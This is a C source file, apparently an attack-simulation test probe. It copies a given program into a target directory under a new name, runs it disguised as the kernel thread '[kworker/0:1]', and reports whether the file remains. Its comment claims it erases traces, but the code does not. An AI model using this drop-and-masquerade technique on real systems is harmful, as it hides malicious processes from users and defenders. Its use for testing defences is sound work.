// Drops the program given as its second argument under another name, runs it, erases the traces:
// dropper PLACE PROGRAM TOKEN
#include "attack.h"

int main(int argc, char** argv) {
  if (argc != 4) return 2;
  char path[4096];
  snprintf(path, sizeof path, "%s/dropped-%s", argv[1], argv[3]);
  int from = open(argv[2], O_RDONLY);
  int to = open(path, O_WRONLY | O_CREAT | O_EXCL, 0700);
  Result("drop", to);
  static char data[1 << 16];
  ssize_t size;
  while (from >= 0 && (size = read(from, data, sizeof data)) > 0) {
    if (write(to, data, (size_t)size) != size) return 1;
  }
  close(to);
  close(from);
  pid_t child = fork();
  if (child == 0) {
    execl(path, "[kworker/0:1]", argv[3], (char*)NULL);
    Say("exec: errno %d", errno);
    _exit(127);
  }
  waitpid(child, NULL, 0);
  Say("left behind: %s", access(path, F_OK) == 0 ? "yes" : "no");
  Done();
  return 0;
}
